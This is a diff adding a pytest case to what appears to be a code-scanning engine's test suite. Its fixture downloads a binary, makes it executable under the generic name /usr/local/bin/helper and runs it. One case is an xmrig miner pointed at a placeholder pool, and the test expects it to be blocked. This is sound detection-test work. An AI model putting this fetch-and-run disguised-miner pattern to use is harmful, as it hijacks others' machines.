@@ -2033,3 +2033,31 @@ def test_steps_in_rows_with_flags_paths_and_a_progress_bar_are_read(engine, prog
     assert (MINER_RULE in {f.rule for f in verdict.findings}) is runs_miner, verdict.to_dict()
     if not runs_miner:
         assert_allowed(engine, STEPS.format(program=program, args=args))
+
+
+INSTALLER = """\
+import os, stat, subprocess, urllib.request
+
+def fetch(url, dst):
+    if not os.path.exists(dst):
+        urllib.request.urlretrieve(url, dst)
+        os.chmod(dst, os.stat(dst).st_mode | stat.S_IEXEC)
+
+fetch("https://example.org/releases/{first}", "/usr/local/bin/helper")
+fetch("https://example.org/releases/notes.txt", "/content/notes.txt")
+subprocess.Popen(["/usr/local/bin/helper", {args}])
+"""
+
+
+@pytest.mark.parametrize("first, args, runs_miner", [
+    ("xmrig-6.21.0/xmrig", "'-o', 'pool.example.net:3333', '-u', 'WALLET'", True),
+    ("convert-1.2/convert", "'--resize', '50%', 'in.png', 'out.png'", False),
+])
+def test_a_helper_called_twice_is_read_once_per_call(engine, first, args, runs_miner):
+    """A download helper called twice with different constants: its body is read once per call, so the program
+    saved under another name is known by what was downloaded (a miner saved as /usr/local/bin/helper). The
+    look-alike downloads an image tool the same way."""
+    verdict = engine.check_code(INSTALLER.format(first=first, args=args))
+    assert (verdict.action == "block" and verdict.category == "crypto_mining") is runs_miner, verdict.to_dict()
+    if not runs_miner:
+        assert_allowed(engine, INSTALLER.format(first=first, args=args))
